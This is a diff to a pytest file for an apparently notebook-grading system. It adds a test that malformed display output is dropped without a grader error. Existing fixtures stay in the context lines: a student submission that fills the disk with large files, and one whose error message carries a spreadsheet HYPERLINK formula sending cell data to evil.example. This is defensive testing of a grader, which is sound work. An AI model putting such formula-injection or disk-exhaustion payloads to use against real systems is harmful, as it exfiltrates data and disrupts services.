@@ -121,6 +121,9 @@ def hostile(tmp_path_factory):
         (many / f"{i}").touch()
     student("writer", "for _i in range(100):\n    with open(f'big{_i}.bin', 'wb') as _f:\n"
                       "        _f.write(b'0' * 100 * 2**20)\n\ndef double(x):\n    return 2 * x\n")
+    student("malformed_output", "from IPython.display import display\n"
+                                "display({'text/plain': 5, 'image/png': [1, 2]}, raw=True)\n"
+                                "def double(x):\n    return 2 * x\n")
     student("formula", "def double(x):\n    raise AssertionError("
                        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") please click')\n")
 
@@ -191,6 +194,15 @@ def test_runaway_writes_cost_only_their_own_question(hostile):
     row = _row(hostile, "writer")
     assert row["status"] == "error" and "No space left on device" in row["message"], row["message"]
     assert _row(hostile, "writer", "test_square")["status"] == "ok"
+
+
+def test_a_malformed_output_is_dropped_and_the_notebook_graded(hostile):
+    """A cell displaying what no notebook can hold (a number as text, a list as an image): the
+    output is dropped with a note, the notebook graded as usual (not a grader error)."""
+    for q in ("test_double", "test_square"):
+        assert _row(hostile, "malformed_output", q)["status"] == "ok", _row(hostile, "malformed_output", q)
+    page = next((hostile["out"] / "feedback" / "malformed_output").rglob("*.html")).read_text()
+    assert "could not read was dropped" in page
 
 
 def test_honest_students_keep_full_marks(hostile):
